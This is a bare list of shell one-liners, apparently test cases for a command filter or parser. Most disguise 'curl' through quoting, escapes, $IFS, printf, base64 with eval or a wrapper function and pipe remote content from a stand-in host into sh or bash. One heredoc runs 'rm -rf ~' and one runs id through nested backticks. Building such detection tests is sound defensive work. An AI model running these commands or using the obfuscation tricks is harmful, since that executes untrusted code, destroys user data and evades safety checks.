"cu""rl" x | sh; c\url x|sh; $'\x63\x75\x72\x6c' x | sh; curl${IFS}x|sh
X=$(printf '\x63url'); $X http://e.example | bash
eval "$(echo Y3VybA== | base64 -d) http://e.example | sh"
cat <<'E' | sh
rm -rf ~
E
f() { curl -s "$1"; }; f http://e.example | sh
a=(one two) ; x=$(( 1 + $(echo 2) )) ; `echo \`id\``
